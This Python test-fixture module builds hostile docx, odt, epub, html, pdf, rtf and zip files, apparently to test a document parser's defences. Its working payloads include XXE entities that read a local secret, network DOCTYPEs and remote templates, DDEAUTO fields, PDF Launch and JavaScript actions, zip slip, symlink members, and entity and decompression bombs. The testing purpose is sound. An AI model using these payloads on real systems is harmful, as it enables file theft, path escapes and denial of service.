# SPDX-License-Identifier: MIT
"""Files made to do harm, one of each kind: every one is given the address of a listener and of a secret on the disk."""

import io
import stat
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from exchange.made_documents import docx, epub, odt, pdf, word_paragraph, zipped

SECRET = "canary-in-the-coal-mine"
"""What stands in the file that nothing may read."""

Make = Callable[[str, Path], bytes]

_LAUGHS = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha"}">' for n in range(12))
_PACKAGE = "<a><item id='a' href='{}' media-type='text/html'/><itemref idref='a'/></a>"
_RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELATION = f'<Relationship Id="r{{}}" Type="{_TYPE}/{{}}" Target="{{}}" TargetMode="External"/>'


def _with(data: bytes, **members: str | bytes) -> bytes:
    """Put other members into a container; ``__`` in a name stands for a slash, ``_dot_`` for a dot."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        content: dict[str, str | bytes] = {each: archive.read(each) for each in archive.namelist()}
    content.update({name.replace("__", "/").replace("_dot_", "."): member for name, member in members.items()})
    return zipped(content)


def _entity(secret: Path) -> str:
    return f'<!DOCTYPE a [<!ENTITY e SYSTEM "{secret.as_uri()}">]><a>&e;</a>'


def _linked(secret: Path) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        entry = zipfile.ZipInfo("word/document.xml")
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(entry, str(secret))
    return file.getvalue()


def _word_that_links(address: str, secret: Path) -> bytes:
    field = '<w:p><w:r><w:instrText>INCLUDETEXT "{}"</w:instrText></w:r></w:p>'
    kinds = ("image", "oleObject", "aFChunk", "attachedTemplate", "subDocument", "frame")
    relations = "".join(
        _RELATION.format(f"{place}{kind}", kind, target)
        for kind in kinds
        for place, target in enumerate((f"{address}/{kind}", secret.as_uri()))
    )
    drawing = "".join(
        "<w:p><w:r><w:drawing>"
        '<wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        "<a:graphicData>"
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill>'
        f'<a:blip xmlns:r="{_TYPE}" r:link="r{place}image"/>'
        "</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
        for place in (0, 1)
    )
    body = field.format(secret) + field.format(address) + drawing + word_paragraph("words")
    return _with(docx(body), word___rels__document_dot_xml_dot_rels=_RELATIONS.format(relations))


def _page_that_links(address: str, secret: Path) -> bytes:
    return "".join(
        f"<link rel=stylesheet href='{target}'><script src='{target}'></script>"
        f"<img src='{target}' srcset='{target} 2x'>"
        f"<iframe src='{target}'></iframe><object data='{target}'></object><embed src='{target}'>"
        f"<base href='{target}'><style>@import url({target})</style><video poster='{target}'></video>"
        f"<svg><image href='{target}'/></svg><p>words"
        for target in (address, secret.as_uri())
    ).encode()


def _pdf_that_acts(address: str, secret: Path) -> bytes:
    actions = (
        f"/URI ({address})",
        f"/S /Launch /F ({secret})",
        f"/OpenAction << /S /JavaScript /JS (app.launchURL('{address}')) >>",
        f"/EmbeddedFiles << /F ({secret}) /FS /URL >>",
    )
    return pdf([[(700, "words")]], info=" ".join(actions))


def _pdf_bomb(_address: str, _secret: Path) -> bytes:
    packed = zlib.compress(b"BT /F1 12 Tf 60 700 Td (words) Tj ET\n" + b" " * 400_000_000, 9)
    data = pdf([[(700, "words")]])
    start, end = data.index(b"<< /Length"), data.index(b"endstream")
    return data[:start] + b"<< /Length %d /Filter /FlateDecode >> stream\n%s\n" % (len(packed), packed) + data[end:]


def _rtf_that_links(address: str, secret: Path) -> bytes:
    fields = "".join(
        f'{{\\field{{\\*\\fldinst {word} "{target}"}}{{\\fldrslt }}}}'
        for word in ("INCLUDETEXT", "INCLUDEPICTURE", "DDEAUTO", "HYPERLINK")
        for target in (address, secret)
    )
    return f"{{\\rtf1{{\\object\\objemb{{\\*\\objdata 01050000}}}}{{\\*\\template {address}}}{fields}words}}".encode()


def _nested_containers(depth: int) -> bytes:
    data = zipped({"a.txt": "words"})
    for _ in range(depth):
        data = zipped({"a.zip": data})
    return data


_WORDS = word_paragraph("words")
_ENTITIES = f"<!DOCTYPE a [{_LAUGHS}]><a>&e11;</a>"
_PAGE_ENTITIES = f"<!DOCTYPE html [{_LAUGHS}]>"
_SPACES = b" " * 100_000_000
_BOOK = "<p>words</p>"

_DOCX: dict[str, Make] = {
    "bomb of entities": lambda *_: zipped({"word/document.xml": _ENTITIES}),
    "entity of the disk": lambda _, secret: zipped({"word/document.xml": _entity(secret)}),
    "doctype of the network": lambda at, _: zipped({"word/document.xml": f'<!DOCTYPE a SYSTEM "{at}"><a/>'}),
    "doctype of a relation": lambda at, _: _with(docx(_WORDS), word__a_dot_rels=f'<!DOCTYPE a SYSTEM "{at}"><a/>'),
    "pictures, templates, fields from elsewhere": _word_that_links,
    "nested": lambda *_: docx("<w:p>" * 10_000 + "</w:p>" * 10_000),
    "bomb of spaces": lambda *_: zipped({"word/document.xml": b"<a>" + _SPACES + b"</a>"}),
    "slip": lambda *_: _with(docx(_WORDS), **{"../../escaped": "x"}),
    "absolute name": lambda _, secret: _with(docx(_WORDS), **{str(secret.parent / "escaped"): "x"}),
    "link": lambda _, secret: _linked(secret),
}
_ODT: dict[str, Make] = {
    "bomb of entities": lambda *_: zipped({"content.xml": _ENTITIES}),
    "entity of the disk": lambda _, secret: zipped({"content.xml": _entity(secret)}),
    "pictures from elsewhere": lambda at, _: odt(f"<text:p>words<frame><image href='{at}'/></frame></text:p>"),
    "section from elsewhere": lambda at, _: odt(
        f"<text:section><text:section-source href='{at}'/><text:p>words</text:p></text:section>"
    ),
    "nested": lambda *_: odt("<text:span>" * 10_000 + "</text:span>" * 10_000),
    "bomb of spaces": lambda *_: zipped({"content.xml": _SPACES}),
    "slip": lambda *_: _with(odt("<text:p>words</text:p>"), **{"../escaped": "x"}),
}
_EPUB: dict[str, Make] = {
    "bomb of entities": lambda *_: epub(["<p>words &e11;</p>"], doctype=_PAGE_ENTITIES),
    "entity of the disk": lambda _, secret: epub(
        ["<p>words &e;</p>"], doctype=f'<!DOCTYPE html [<!ENTITY e SYSTEM "{secret.as_uri()}">]>'
    ),
    "doctype of the network": lambda at, _: epub([_BOOK], doctype=f'<!DOCTYPE html SYSTEM "{at}">'),
    "package with entities": lambda _, secret: _with(epub([_BOOK]), OPS__package_dot_opf=_entity(secret)),
    "chapter outside": lambda _, secret: _with(
        epub([_BOOK]), OPS__package_dot_opf=_PACKAGE.format(f"../../../../../..{secret}")
    ),
    "chapter of the disk": lambda _, secret: _with(
        epub([_BOOK]), OPS__package_dot_opf=_PACKAGE.format(secret.as_uri())
    ),
    "chapter of the network": lambda at, _: _with(epub([_BOOK]), OPS__package_dot_opf=_PACKAGE.format(at)),
    "links": lambda at, secret: epub([_page_that_links(at, secret).decode()]),
    "nested": lambda *_: epub(["<div>" * 100_000]),
}
_HTML: dict[str, Make] = {
    "links": _page_that_links,
    "nested": lambda *_: b"<div>" * 100_000 + b"words",
    "unclosed": lambda *_: b"<a href=x><b><i><font>" * 10_000 + b"words",
    "long attributes": lambda *_: b"<p " + b"a=b " * 500_000 + b">words",
    "many fields": lambda *_: b"<meta name=author content=x>" * 200_000 + b"<p>words",
}
_PDF: dict[str, Make] = {
    "actions": _pdf_that_acts,
    "bomb": _pdf_bomb,
    "nested": lambda *_: b"%PDF-1.4\n1 0 obj\n" + b"[<<" * 1_000_000,
}
_RTF: dict[str, Make] = {
    "fields from elsewhere": _rtf_that_links,
    "nested": lambda *_: b"{\\rtf1 " + b"{" * 1_000_000 + b"words",
    "links without end": lambda *_: b"{\\rtf1 " + b'{\\field{\\*\\fldinst{HYPERLINK "x' * 2_000 + b"words}",
    "characters beyond all": lambda *_: b"{\\rtf1 \\u9999999999 ?words}",
}
HARMFUL: dict[str, tuple[str, Make]] = {
    f"{kind}: {what}": (kind, make)
    for kind, files in zip(
        ("docx", "odt", "epub", "html", "pdf", "rtf"), (_DOCX, _ODT, _EPUB, _HTML, _PDF, _RTF), strict=True
    )
    for what, make in files.items()
}
"""What each is, the kind of file, and how it is made."""

CONTAINERS: dict[str, Make] = {
    "slip": lambda *_: zipped({"../escaped": "x"}),
    "nested": lambda *_: _nested_containers(5),
    "bomb": lambda *_: zipped({"a": b"\0" * 100_000_000}),
    "link": lambda _, secret: _linked(secret),
}
